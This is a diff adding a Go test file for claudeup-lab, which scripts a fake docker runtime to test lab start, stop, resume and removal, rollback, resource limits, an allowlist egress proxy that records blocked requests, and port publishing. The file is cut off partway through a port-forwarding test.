@@ -0,0 +1,1512 @@
+package lab_test
+
+import (
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/claudeup/claudeup-lab/internal/devcontainer"
+	"github.com/claudeup/claudeup-lab/internal/docker"
+	"github.com/claudeup/claudeup-lab/internal/lab"
+	"github.com/claudeup/claudeup-lab/internal/runner"
+)
+
+// fakeRuntime scripts a docker CLI on a runner.Fake, keeping just enough
+// container and volume state for the built-in engine and lab.Manager.
+type fakeRuntime struct {
+	mu         sync.Mutex
+	next       int
+	containers map[string]*fakeContainer
+	volumes    map[string]bool
+	networks   map[string]bool
+}
+
+type fakeContainer struct {
+	id          string
+	worktree    string
+	running     bool
+	postCreated bool
+	created     int
+}
+
+// newFakeEnv returns a Manager whose docker and claudeup are scripted, with
+// git the only real tool it runs. claudeup behaves as if not installed.
+func newFakeEnv(t *testing.T) (*lab.Manager, *runner.Fake, *fakeRuntime) {
+	t.Helper()
+
+	for _, key := range []string{"CLAUDEUP_LAB_RUNTIME", "CLAUDEUP_LAB_ENGINE", "CLAUDEUP_LAB_TRANSPORT", "CLAUDEUP_LAB_IMAGE", "GITHUB_TOKEN"} {
+		t.Setenv(key, "")
+	}
+	t.Setenv("CLAUDEUP_LAB_OFFLINE", "0")
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("CLAUDEUP_HOME", filepath.Join(home, ".claudeup"))
+	os.MkdirAll(filepath.Join(home, ".claudeup", "profiles"), 0o755)
+
+	fake := runner.NewFake()
+	fake.Fallback = runner.Default
+
+	// Anything not scripted below must not reach a real binary
+	for _, tool := range []string{"docker", "podman", "devcontainer"} {
+		fake.On(tool).Do(func(cmd *runner.Cmd) error {
+			t.Errorf("unexpected command: %s", cmd)
+			return &runner.ExitError{Code: 1}
+		})
+	}
+	fake.On("claudeup").Fail(127, "claudeup: command not found")
+
+	rt := &fakeRuntime{containers: map[string]*fakeContainer{}, volumes: map[string]bool{}, networks: map[string]bool{}}
+	rt.script(fake)
+
+	return lab.NewManagerWithRunner(t.TempDir(), fake), fake, rt
+}
+
+func (rt *fakeRuntime) script(fake *runner.Fake) {
+	fake.On("docker", "info")
+	fake.On("docker", "image", "inspect")
+	fake.On("docker", "ps").Do(rt.ps)
+	fake.On("docker", "create").Do(rt.create)
+	fake.On("docker", "start").Do(rt.setRunning(true))
+	fake.On("docker", "stop").Do(rt.setRunning(false))
+	fake.On("docker", "rm").Do(rt.remove)
+	fake.On("docker", "exec").Do(rt.exec)
+	fake.On("docker", "volume", "ls").Do(rt.volumeList)
+	fake.On("docker", "volume", "rm").Do(rt.volumeRemove)
+	fake.On("docker", "container", "inspect").Do(rt.inspect)
+	fake.On("docker", "image", "inspect", "--format").Return(`["ghcr.io/claudeup/claudeup-lab@sha256:feed"]`, nil)
+	fake.On("docker", "image", "inspect", "--format", "{{json .Config.Labels}}").Return(`{}`, nil)
+	fake.On("docker", "system", "df").Do(rt.systemDF)
+	fake.On("docker", "run").Do(rt.run)
+	fake.On("docker", "network").Do(rt.network)
+}
+
+func flagValues(args []string, flag string) []string {
+	var values []string
+	for i := 0; i < len(args)-1; i++ {
+		if args[i] == flag {
+			values = append(values, args[i+1])
+		}
+	}
+	return values
+}
+
+func (rt *fakeRuntime) ps(cmd *runner.Cmd) error {
+	rt.mu.Lock()
+	defer rt.mu.Unlock()
+
+	all := false
+	for _, a := range cmd.Args {
+		all = all || a == "-a"
+	}
+	worktree := ""
+	for _, f := range flagValues(cmd.Args, "--filter") {
+		worktree = strings.TrimPrefix(f, "label=devcontainer.local_folder=")
+	}
+
+	for _, c := range rt.containers {
+		if c.worktree != worktree || (!all && !c.running) {
+			continue
+		}
+		state := "exited"
+		if c.running {
+			state = "running"
+		}
+		line, _ := json.Marshal(map[string]string{
+			"ID":        c.id,
+			"Names":     "lab-" + c.id,
+			"State":     state,
+			"Labels":    "devcontainer.local_folder=" + c.worktree,
+			"CreatedAt": fmt.Sprintf("2026-01-01 00:00:%02d +0000 UTC", c.created),
+		})
+		fmt.Fprintf(cmd.Stdout, "%s\n", line)
+	}
+	return nil
+}
+
+func (rt *fakeRuntime) create(cmd *runner.Cmd) error {
+	rt.mu.Lock()
+	defer rt.mu.Unlock()
+
+	rt.next++
+	c := &fakeContainer{id: fmt.Sprintf("c%011d", rt.next), created: rt.next}
+	for _, l := range flagValues(cmd.Args, "--label") {
+		if v, ok := strings.CutPrefix(l, "devcontainer.local_folder="); ok {
+			c.worktree = v
+		}
+	}
+	for _, m := range flagValues(cmd.Args, "--mount") {
+		if strings.Contains(m, "type=volume") {
+			name := strings.TrimPrefix(strings.Split(m, ",")[0], "source=")
+			rt.volumes[name] = true
+		}
+	}
+	rt.containers[c.id] = c
+	fmt.Fprintln(cmd.Stdout, c.id)
+	return nil
+}
+
+// run starts a named helper container, such as an egress proxy. It is
+// keyed by name, which is also its ID.
+func (rt *fakeRuntime) run(cmd *runner.Cmd) error {
+	rt.mu.Lock()
+	defer rt.mu.Unlock()
+	name := flagValues(cmd.Args, "--name")[0]
+	rt.containers[name] = &fakeContainer{id: name, running: true}
+	return nil
+}
+
+func (rt *fakeRuntime) network(cmd *runner.Cmd) error {
+	rt.mu.Lock()
+	defer rt.mu.Unlock()
+	name := cmd.Args[len(cmd.Args)-1]
+	switch cmd.Args[1] {
+	case "create":
+		rt.networks[name] = true
+	case "rm":
+		delete(rt.networks, name)
+	case "inspect":
+		if !rt.networks[name] {
+			return &runner.ExitError{Code: 1, Stderr: []byte("Error: No such network: " + name)}
+		}
+	case "connect":
+		if !rt.networks[cmd.Args[2]] || rt.containers[name] == nil {
+			return &runner.ExitError{Code: 1, Stderr: []byte("no such network or container")}
+		}
+	}
+	return nil
+}
+
+func (rt *fakeRuntime) setRunning(running bool) func(*runner.Cmd) error {
+	return func(cmd *runner.Cmd) error {
+		rt.mu.Lock()
+		defer rt.mu.Unlock()
+		c, ok := rt.containers[cmd.Args[len(cmd.Args)-1]]
+		if !ok {
+			return &runner.ExitError{Code: 1, Stderr: []byte("no such container")}
+		}
+		c.running = running
+		return nil
+	}
+}
+
+func (rt *fakeRuntime) remove(cmd *runner.Cmd) error {
+	rt.mu.Lock()
+	defer rt.mu.Unlock()
+	delete(rt.containers, cmd.Args[len(cmd.Args)-1])
+	return nil
+}
+
+// exec answers the built-in engine's postCreateCommand marker check and
+// records the command itself as having run.
+func (rt *fakeRuntime) exec(cmd *runner.Cmd) error {
+	rt.mu.Lock()
+	defer rt.mu.Unlock()
+
+	var c *fakeContainer
+	for _, a := range cmd.Args {
+		if rt.containers[a] != nil {
+			c = rt.containers[a]
+		}
+	}
+	if c == nil || !c.running {
+		return &runner.ExitError{Code: 1, Stderr: []byte("container is not running")}
+	}
+
+	script := cmd.Args[len(cmd.Args)-1]
+	if script == "--version" {
+		switch cmd.Args[len(cmd.Args)-2] {
+		case "claude":
+			fmt.Fprintln(cmd.Stdout, "2.0.14 (Claude Code)")
+		case "claudeup":
+			fmt.Fprintln(cmd.Stdout, "claudeup version v1.3.0")
+		}
+		return nil
+	}
+	if strings.HasPrefix(script, "test -f") {
+		if c.postCreated {
+			return nil
+		}
+		return &runner.ExitError{Code: 1}
+	}
+	c.postCreated = true
+	if cmd.Stdout != nil {
+		// Like a careless init script, echo the token it was given
+		for _, kv := range cmd.Env {
+			if token, ok := strings.CutPrefix(kv, "GITHUB_TOKEN="); ok {
+				fmt.Fprintf(cmd.Stdout, "Cloning https://x-access-token:%s@github.com/acme/config\n", token)
+			}
+		}
+		fmt.Fprintln(cmd.Stdout, "[WARN] claudeup profile apply failed, will retry on next container start")
+	}
+	return nil
+}
+
+func (rt *fakeRuntime) volumeList(cmd *runner.Cmd) error {
+	rt.mu.Lock()
+	defer rt.mu.Unlock()
+	for name := range rt.volumes {
+		fmt.Fprintf(cmd.Stdout, `{"Name":%q,"Driver":"local","Labels":""}`+"\n", name)
+	}
+	return nil
+}
+
+func (rt *fakeRuntime) volumeRemove(cmd *runner.Cmd) error {
+	rt.mu.Lock()
+	defer rt.mu.Unlock()
+	for _, name := range cmd.Args[2:] {
+		delete(rt.volumes, name)
+	}
+	return nil
+}
+
+func (rt *fakeRuntime) inspect(cmd *runner.Cmd) error {
+	rt.mu.Lock()
+	defer rt.mu.Unlock()
+	c, ok := rt.containers[cmd.Args[len(cmd.Args)-1]]
+	if !ok {
+		return &runner.ExitError{Code: 1, Stderr: []byte("Error: No such container")}
+	}
+	status := "exited"
+	if c.running {
+		status = "running"
+	}
+	fmt.Fprintf(cmd.Stdout, `[{"Id":%q,"Name":"/lab-%s","Image":"sha256:1234","Config":{"Image":"ghcr.io/claudeup/claudeup-lab:latest"},"State":{"Status":%q,"StartedAt":"2026-01-01T00:00:00Z"}}]`,
+		c.id, c.id, status)
+	return nil
+}
+
+func (rt *fakeRuntime) systemDF(cmd *runner.Cmd) error {
+	rt.mu.Lock()
+	defer rt.mu.Unlock()
+	var volumes []map[string]string
+	for name := range rt.volumes {
+		volumes = append(volumes, map[string]string{"Name": name, "Size": "1.5MB"})
+	}
+	return json.NewEncoder(cmd.Stdout).Encode(map[string]interface{}{"Volumes": volumes})
+}
+
+func (rt *fakeRuntime) containerFor(worktree string) *fakeContainer {
+	rt.mu.Lock()
+	defer rt.mu.Unlock()
+	for _, c := range rt.containers {
+		if c.worktree == worktree {
+			return c
+		}
+	}
+	return nil
+}
+
+func (rt *fakeRuntime) volumeCount() int {
+	rt.mu.Lock()
+	defer rt.mu.Unlock()
+	return len(rt.volumes)
+}
+
+// quietly discards what fn prints to stdout, which Start and Remove use for
+// progress.
+func quietly(t *testing.T, fn func()) {
+	t.Helper()
+	r, w, err := os.Pipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	stdout := os.Stdout
+	os.Stdout = w
+	done := make(chan struct{})
+	go func() { io.Copy(io.Discard, r); close(done) }()
+	defer func() {
+		w.Close()
+		<-done
+		os.Stdout = stdout
+	}()
+	fn()
+}
+
+func TestStartStopResumeRemove(t *testing.T) {
+	mgr, fake, rt := newFakeEnv(t)
+	project := initTestRepo(t)
+
+	var meta *lab.Metadata
+	var err error
+	quietly(t, func() { meta, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base"}) })
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+
+	if meta.State != lab.StateReady {
+		t.Errorf("State = %q, want %q", meta.State, lab.StateReady)
+	}
+	if _, err := os.Stat(devcontainer.ConfigPath(meta.Worktree)); err != nil {
+		t.Errorf("devcontainer.json not rendered: %v", err)
+	}
+	c := rt.containerFor(meta.Worktree)
+	if c == nil || !c.running || !c.postCreated {
+		t.Fatalf("container after start = %+v, want running with postCreateCommand run", c)
+	}
+	if rt.volumeCount() == 0 {
+		t.Error("expected per-lab volumes to be created")
+	}
+	if got := mgr.LabStatus(meta); got != "running" {
+		t.Errorf("LabStatus = %q, want running", got)
+	}
+
+	info := mgr.Info(meta)
+	if info.ContainerID != c.id || len(info.Volumes) != rt.volumeCount() || info.Status != "running" {
+		t.Errorf("Info = %+v, want container %s and %d volumes", info, c.id, rt.volumeCount())
+	}
+
+	// Resolve by display name
+	resolved, err := lab.NewResolver(mgr.Store()).Resolve(meta.DisplayName)
+	if err != nil || resolved.ID != meta.ID {
+		t.Fatalf("Resolve(%q) = %v, %v", meta.DisplayName, resolved, err)
+	}
+
+	// Stop
+	var stopped bool
+	quietly(t, func() { stopped, err = mgr.Stop(resolved) })
+	if err != nil || !stopped {
+		t.Fatalf("Stop = %v, %v", stopped, err)
+	}
+	if c.running {
+		t.Error("container still running after Stop")
+	}
+	if got := mgr.LabStatus(resolved); got != "stopped" {
+		t.Errorf("LabStatus after stop = %q, want stopped", got)
+	}
+	if !mgr.Info(resolved).Resumable {
+		t.Error("stopped lab should be reported as resumable")
+	}
+
+	// Resume starts the same container and does not rerun postCreateCommand
+	execs := len(fake.Calls())
+	quietly(t, func() { err = mgr.Resume(resolved) })
+	if err != nil {
+		t.Fatalf("Resume: %v", err)
+	}
+	if !c.running {
+		t.Error("container not running after Resume")
+	}
+	for _, call := range fake.Calls()[execs:] {
+		if call.Name == "docker" && (call.Args[0] == "create" || strings.Contains(call.String(), "touch")) {
+			t.Errorf("Resume should reuse the container without rerunning setup, ran: %s", call)
+		}
+	}
+
+	// Both runs are in the provisioning log, including postCreateCommand output
+	entries, err := mgr.ReadLog(meta.ID, time.Time{}, 0)
+	if err != nil {
+		t.Fatalf("ReadLog: %v", err)
+	}
+	var texts []string
+	for _, e := range entries {
+		if e.Time.IsZero() {
+			t.Errorf("log line without timestamp: %q", e.Text)
+		}
+		texts = append(texts, e.Text)
+	}
+	log := strings.Join(texts, "\n")
+	for _, want := range []string{"=== start " + meta.DisplayName + " ===", "will retry on next container start", "=== start finished ===", "=== resume finished ==="} {
+		if !strings.Contains(log, want) {
+			t.Errorf("provisioning log missing %q:\n%s", want, log)
+		}
+	}
+	if last, _ := mgr.ReadLog(meta.ID, time.Time{}, 1); len(last) != 1 || last[0].Text != "=== resume finished ===" {
+		t.Errorf("ReadLog tail 1 = %v", last)
+	}
+	if recent, _ := mgr.ReadLog(meta.ID, time.Now().Add(time.Hour), 0); len(recent) != 0 {
+		t.Errorf("ReadLog since the future = %v, want nothing", recent)
+	}
+
+	// Remove
+	quietly(t, func() { err = mgr.Remove(resolved, true) })
+	var prompt *lab.BareRepoCleanupPrompt
+	if !errors.As(err, &prompt) {
+		t.Fatalf("Remove = %v, want BareRepoCleanupPrompt for the last worktree", err)
+	}
+	if rt.containerFor(meta.Worktree) != nil {
+		t.Error("container not removed")
+	}
+	if rt.volumeCount() != 0 {
+		t.Errorf("%d volumes left after Remove", rt.volumeCount())
+	}
+	if _, err := os.Stat(meta.Worktree); !os.IsNotExist(err) {
+		t.Error("worktree not removed")
+	}
+	if _, err := mgr.Store().Load(meta.ID); err == nil {
+		t.Error("metadata not removed")
+	}
+	if _, err := os.Stat(mgr.LogPath(meta.ID)); !os.IsNotExist(err) {
+		t.Error("provisioning log not removed")
+	}
+}
+
+func TestStatusDriftReconciled(t *testing.T) {
+	mgr, _, rt := newFakeEnv(t)
+	project := initTestRepo(t)
+
+	var meta *lab.Metadata
+	var err error
+	quietly(t, func() { meta, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base"}) })
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+
+	// The container exits outside claudeup-lab
+	rt.containerFor(meta.Worktree).running = false
+	if got := mgr.LabStatus(meta); got != "stopped" {
+		t.Errorf("LabStatus = %q, want stopped", got)
+	}
+	if saved, _ := mgr.Store().Load(meta.ID); saved.State != lab.StateStopped {
+		t.Errorf("State after LabStatus = %q, want stopped", saved.State)
+	}
+
+	// And is started again outside claudeup-lab
+	rt.containerFor(meta.Worktree).running = true
+	if got := mgr.LabStatus(meta); got != "running" {
+		t.Errorf("LabStatus = %q, want running", got)
+	}
+	saved, _ := mgr.Store().Load(meta.ID)
+	if saved.State != lab.StateReady {
+		t.Errorf("State after LabStatus = %q, want ready", saved.State)
+	}
+	if n := len(saved.History); n < 2 || saved.History[n-2].State != lab.StateStopped {
+		t.Errorf("History = %v, want the drift recorded", saved.History)
+	}
+}
+
+func TestStartWithoutClaudeupSnapshotsEmptyProfile(t *testing.T) {
+	mgr, fake, _ := newFakeEnv(t)
+	project := initTestRepo(t)
+
+	var meta *lab.Metadata
+	var err error
+	quietly(t, func() { meta, err = mgr.Start(&lab.StartOptions{Project: project}) })
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+
+	if !fake.Ran("claudeup profile save") {
+		t.Error("expected a claudeup snapshot attempt")
+	}
+	if !lab.IsSnapshotProfile(meta.Profile) || meta.Snapshot != meta.Profile {
+		t.Errorf("Profile = %q, Snapshot = %q, want a snapshot profile", meta.Profile, meta.Snapshot)
+	}
+	snapshot := filepath.Join(lab.ClaudeupHome(), "profiles", meta.Snapshot+".json")
+	if _, err := os.Stat(snapshot); err != nil {
+		t.Errorf("snapshot profile not written: %v", err)
+	}
+
+	quietly(t, func() { mgr.Remove(meta, true) })
+	if _, err := os.Stat(snapshot); !os.IsNotExist(err) {
+		t.Error("snapshot profile not cleaned up by Remove")
+	}
+}
+
+func TestStartRollsBackWhenContainerCreateFails(t *testing.T) {
+	mgr, fake, rt := newFakeEnv(t)
+	project := initTestRepo(t)
+	fake.On("docker", "create").Fail(125, "Error: invalid mount config")
+
+	var err error
+	quietly(t, func() { _, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base"}) })
+	if err == nil || !strings.Contains(err.Error(), "invalid mount config") {
+		t.Fatalf("Start error = %v, want the runtime's create error", err)
+	}
+
+	labs, _ := mgr.Store().List()
+	if len(labs) != 1 || labs[0].State != lab.StateFailed {
+		t.Fatalf("labs after failed start = %v, want one failed tombstone", labs)
+	}
+	failed := labs[0]
+	if _, err := os.Stat(failed.Worktree); !os.IsNotExist(err) {
+		t.Error("worktree not rolled back")
+	}
+	if mgr.Worktrees().BranchExists(failed.BareRepo, failed.Branch) {
+		t.Errorf("branch %s not rolled back", failed.Branch)
+	}
+	if rt.volumeCount() != 0 {
+		t.Errorf("%d volumes left after rollback", rt.volumeCount())
+	}
+	if pending, _ := mgr.PendingJournals(); len(pending) != 0 {
+		t.Errorf("journal left behind: %v", pending)
+	}
+	entries, _ := mgr.ReadLog(failed.ID, time.Time{}, 1)
+	if len(entries) != 1 || !strings.Contains(entries[0].Text, "=== start failed:") {
+		t.Errorf("provisioning log of failed lab ends with %v, want the failure", entries)
+	}
+}
+
+func TestStartKeepsExistingWorkspace(t *testing.T) {
+	mgr, _, _ := newFakeEnv(t)
+	project := initTestRepo(t)
+
+	var first *lab.Metadata
+	var err error
+	quietly(t, func() { first, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base", Name: "first"}) })
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+
+	// A directory squatting on the next lab's workspace is not rolled back
+	squatter := filepath.Join(filepath.Dir(first.Worktree), "second")
+	keep := filepath.Join(squatter, "notes.txt")
+	if err := os.MkdirAll(squatter, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(keep, []byte("mine"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	quietly(t, func() { _, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base", Name: "second"}) })
+	if err == nil || !strings.Contains(err.Error(), "already exists") {
+		t.Fatalf("Start error = %v, want the workspace to be refused", err)
+	}
+	if _, err := os.Stat(keep); err != nil {
+		t.Errorf("existing workspace removed by rollback: %v", err)
+	}
+}
+
+func TestResolveAcrossLabs(t *testing.T) {
+	mgr, _, _ := newFakeEnv(t)
+	project := initTestRepo(t)
+
+	var first, second *lab.Metadata
+	var err error
+	quietly(t, func() {
+		if first, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base"}); err != nil {
+			return
+		}
+		second, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "experimental"})
+	})
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+	if first.BareRepo != second.BareRepo {
+		t.Errorf("labs of one project should share a bare repo: %s vs %s", first.BareRepo, second.BareRepo)
+	}
+
+	resolver := lab.NewResolver(mgr.Store())
+
+	var ambiguous *lab.AmbiguousError
+	if _, err := resolver.Resolve(filepath.Base(project)); !errors.As(err, &ambiguous) {
+		t.Errorf("Resolve(project) = %v, want AmbiguousError", err)
+	}
+	if got, err := resolver.Resolve("experimental"); err != nil || got.ID != second.ID {
+		t.Errorf("Resolve(profile) = %v, %v; want %s", got, err, second.ID)
+	}
+	if got, err := resolver.Resolve(first.ID[:8]); err != nil || got.ID != first.ID {
+		t.Errorf("Resolve(short ID) = %v, %v; want %s", got, err, first.ID)
+	}
+	if got, err := resolver.ResolveByCWD(filepath.Join(second.Worktree, "sub")); err != nil || got.ID != second.ID {
+		t.Errorf("ResolveByCWD = %v, %v; want %s", got, err, second.ID)
+	}
+
+	// Removing one of two labs keeps the shared bare repo
+	quietly(t, func() { err = mgr.Remove(first, true) })
+	if err != nil {
+		t.Errorf("Remove with another lab remaining = %v, want nil", err)
+	}
+}
+
+func TestInspect(t *testing.T) {
+	mgr, _, rt := newFakeEnv(t)
+	project := initTestRepo(t)
+
+	var meta *lab.Metadata
+	var err error
+	quietly(t, func() { meta, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base"}) })
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+
+	// One commit on each side
+	os.WriteFile(filepath.Join(project, "host.txt"), []byte("host"), 0o644)
+	run(t, project, "git", "add", ".")
+	run(t, project, "git", "commit", "-m", "host change")
+	os.WriteFile(filepath.Join(meta.Worktree, "lab.txt"), []byte("lab"), 0o644)
+	run(t, meta.Worktree, "git", "add", "lab.txt")
+	run(t, meta.Worktree, "git", "-c", "user.name=T", "-c", "user.email=t@t", "commit", "-m", "lab change")
+
+	d := mgr.Inspect(meta)
+	if len(d.Warnings) != 0 {
+		t.Errorf("unexpected warnings: %v", d.Warnings)
+	}
+	c := rt.containerFor(meta.Worktree)
+	if d.Container == nil || d.Container.ID != c.id || d.Container.State != "running" {
+		t.Errorf("Container = %+v, want running %s", d.Container, c.id)
+	}
+	if d.Container != nil && d.Container.ImageDigest != "sha256:feed" {
+		t.Errorf("ImageDigest = %q, want sha256:feed", d.Container.ImageDigest)
+	}
+	for _, v := range d.Volumes {
+		if d.VolumeSizes[v] != 1500000 {
+			t.Errorf("size of %s = %d, want 1500000", v, d.VolumeSizes[v])
+		}
+	}
+	if d.Git == nil || d.Git.Ahead != 1 || d.Git.Behind != 1 {
+		t.Errorf("Git = %+v, want 1 ahead, 1 behind", d.Git)
+	}
+	if len(d.Devcontainer) == 0 {
+		t.Error("rendered devcontainer.json missing")
+	}
+
+	var ssh *lab.Mount
+	for i, m := range d.Mounts {
+		if m.Target == "/home/node/.ssh" {
+			ssh = &d.Mounts[i]
+		}
+	}
+	if ssh == nil || ssh.Applied || ssh.Skipped == "" {
+		t.Errorf("~/.ssh mount = %+v, want skipped with a reason (HOME has no .ssh)", ssh)
+	}
+}
+
+func TestStartAndUpdateResources(t *testing.T) {
+	mgr, fake, rt := newFakeEnv(t)
+	project := initTestRepo(t)
+	fake.On("docker", "update").Return("", nil)
+
+	var meta *lab.Metadata
+	var err error
+	opts := &lab.StartOptions{Project: project, Profile: "base", Resources: lab.Resources{Memory: 2 << 30}}
+	quietly(t, func() { meta, err = mgr.Start(opts) })
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+	if !fake.Ran("docker create") || !strings.Contains(strings.Join(fake.Commands(), "\n"), "--memory=2147483648") {
+		t.Errorf("container not created with the memory limit: %v", fake.Commands())
+	}
+
+	id := rt.containerFor(meta.Worktree).id
+	if err := mgr.UpdateResources(meta, lab.Resources{CPUs: 2, Memory: 4 << 30}); err != nil {
+		t.Fatalf("UpdateResources: %v", err)
+	}
+	if !fake.Ran("docker update --cpus 2 --memory 4294967296 --memory-swap 8589934592 --pids-limit -1 " + id) {
+		t.Errorf("docker update not run as expected: %v", fake.Commands())
+	}
+	saved, _ := mgr.Store().Load(meta.ID)
+	if saved.Resources != (lab.Resources{CPUs: 2, Memory: 4 << 30}) {
+		t.Errorf("saved Resources = %+v", saved.Resources)
+	}
+	cfg, err := devcontainer.LoadConfig(meta.Worktree)
+	if err != nil {
+		t.Fatalf("LoadConfig: %v", err)
+	}
+	if got := strings.Join(cfg.RunArgs, " "); got != "--cpus=2 --memory=4294967296" {
+		t.Errorf("re-rendered runArgs = %q", got)
+	}
+	if cfg.RemoteEnv["NODE_OPTIONS"] != "--max-old-space-size=3072" {
+		t.Errorf("re-rendered NODE_OPTIONS = %q", cfg.RemoteEnv["NODE_OPTIONS"])
+	}
+
+	if err := mgr.UpdateResources(meta, lab.Resources{CPUs: 2}); err == nil {
+		t.Error("lifting the memory limit of an existing container should fail")
+	}
+}
+
+func TestAllowlistNetworkLifecycle(t *testing.T) {
+	mgr, fake, rt := newFakeEnv(t)
+	project := initTestRepo(t)
+
+	var meta *lab.Metadata
+	var err error
+	opts := &lab.StartOptions{Project: project, Profile: "base", Network: lab.NetworkAllowlist, Allowlist: []string{"api.anthropic.com", "*.github.com"}}
+	quietly(t, func() { meta, err = mgr.Start(opts) })
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+
+	network, proxyName := docker.LabNetwork(meta.ID), docker.ProxyContainer(meta.ID)
+	if !rt.networks[network] {
+		t.Fatalf("private network %s not created", network)
+	}
+	proxy := rt.containers[proxyName]
+	if proxy == nil || !proxy.running {
+		t.Fatalf("egress proxy not running: %+v", proxy)
+	}
+	if !fake.Ran("docker network create --internal") || !fake.Ran("docker network connect "+network+" "+proxyName) {
+		t.Errorf("network not set up as expected: %v", fake.Commands())
+	}
+	if !strings.Contains(strings.Join(fake.Commands(), "\n"), "ALLOWED_HOSTS=api.anthropic.com,*.github.com") {
+		t.Error("proxy not given the allowlist")
+	}
+	saved, _ := mgr.Store().Load(meta.ID)
+	if saved.Network != lab.NetworkAllowlist || len(saved.Allowlist) != 2 {
+		t.Errorf("saved network = %q %v", saved.Network, saved.Allowlist)
+	}
+
+	// The proxy stops and resumes with the lab
+	quietly(t, func() { _, err = mgr.Stop(meta) })
+	if err != nil || proxy.running {
+		t.Fatalf("Stop = %v, proxy running = %v", err, proxy.running)
+	}
+	quietly(t, func() { err = mgr.Resume(meta) })
+	if err != nil || !proxy.running {
+		t.Fatalf("Resume = %v, proxy running = %v", err, proxy.running)
+	}
+
+	// Blocked requests come from the proxy's log
+	fake.On("docker", "logs").Return(`egress proxy listening on 3128
+{"time":"2026-01-01T00:00:00Z","method":"CONNECT","target":"evil.test:443"}
+`, nil)
+	blocked, err := mgr.BlockedRequests(meta, time.Time{})
+	if err != nil || len(blocked) != 1 || blocked[0].Target != "evil.test:443" {
+		t.Errorf("BlockedRequests = %+v, %v", blocked, err)
+	}
+
+	quietly(t, func() { mgr.Remove(meta, true) })
+	if rt.containers[proxyName] != nil || rt.networks[network] {
+		t.Error("egress proxy or network left after Remove")
+	}
+}
+
+func TestStartRollsBackNetwork(t *testing.T) {
+	mgr, fake, rt := newFakeEnv(t)
+	project := initTestRepo(t)
+	fake.On("docker", "create").Fail(125, "Error: boom")
+
+	var err error
+	quietly(t, func() {
+		_, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base", Network: lab.NetworkAllowlist, Allowlist: lab.DefaultAllowlist})
+	})
+	if err == nil {
+		t.Fatal("Start should fail")
+	}
+	if len(rt.networks) != 0 {
+		t.Errorf("networks left after rollback: %v", rt.networks)
+	}
+	for name := range rt.containers {
+		t.Errorf("container %s left after rollback", name)
+	}
+}
+
+// freePort returns a host port nothing listens on.
+func freePort(t *testing.T) int {
+	t.Helper()
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	return l.Addr().(*net.TCPAddr).Port
+}
+
+// fakeForwarders stands in for the detached forwarder processes with
+// sleeping ones, recording which ports were forwarded and whether each
+// process has exited.
+type fakeForwarders struct {
+	mu     sync.Mutex
+	exited map[int]chan struct{} // by host port
+}
+
+func stubForwarders(t *testing.T, mgr *lab.Manager) *fakeForwarders {
+	f := &fakeForwarders{exited: map[int]chan struct{}{}}
+	mgr.SetSpawner(func(labID string, p lab.PortMapping, log, pidFile *os.File) (int, error) {
+		cmd := exec.Command("sleep", "60")
+		cmd.ExtraFiles = []*os.File{pidFile}
+		if err := cmd.Start(); err != nil {
+			return 0, err
+		}
+		t.Cleanup(func() { cmd.Process.Kill() })
+		exited := make(chan struct{})
+		go func() { cmd.Wait(); close(exited) }()
+		f.mu.Lock()
+		f.exited[p.Host] = exited
+		f.mu.Unlock()
+		return cmd.Process.Pid, nil
+	})
+	return f
+}
+
+// running reports whether the forwarder of a host port was started and
+// has not exited.
+func (f *fakeForwarders) running(port int) bool {
+	f.mu.Lock()
+	exited, ok := f.exited[port]
+	f.mu.Unlock()
+	if !ok {
+		return false
+	}
+	select {
+	case <-exited:
+		return false
+	case <-time.After(time.Second):
+		return true
+	}
+}
+
+func TestPublishedPorts(t *testing.T) {
+	mgr, fake, _ := newFakeEnv(t)
+	stubForwarders(t, mgr)
+	project := initTestRepo(t)
+	host := freePort(t)
+
+	var meta *lab.Metadata
+	var err error
+	quietly(t, func() {
+		meta, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base", Ports: []lab.PortMapping{{Host: host, Container: 3000}}})
+	})
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+
+	published := fmt.Sprintf("127.0.0.1:%d:3000", host)
+	if !strings.Contains(strings.Join(fake.Commands(), "\n"), "--publish "+published) {
+		t.Errorf("port not published on loopback: %v", fake.Commands())
+	}
+	saved, _ := mgr.Store().Load(meta.ID)
+	if len(saved.Ports) != 1 || !saved.Ports[0].Published {
+		t.Errorf("saved ports = %+v", saved.Ports)
+	}
+	if ports := mgr.Ports(meta); len(ports) != 1 || ports[0].Mode != "published" || !ports[0].Active {
+		t.Errorf("Ports = %+v", ports)
+	}
+
+	// A published port belongs to the container
+	if err := mgr.RemovePort(meta, host); err == nil || !strings.Contains(err.Error(), "published") {
+		t.Errorf("RemovePort of a published port = %v", err)
+	}
+}
+
+func TestForwardedPorts(t *testing.T) {
+	mgr, fake, _ := newFakeEnv(t)
+	forwarders := stubForwarders(t, mgr)
+	project := initTestRepo(t)
+	startPort, addedPort := freePort(t), freePort(t)
+
+	// Without a network, start-time ports are forwarded too
+	var meta *lab.Metadata
+	var err error
+	quietly(t, func() {
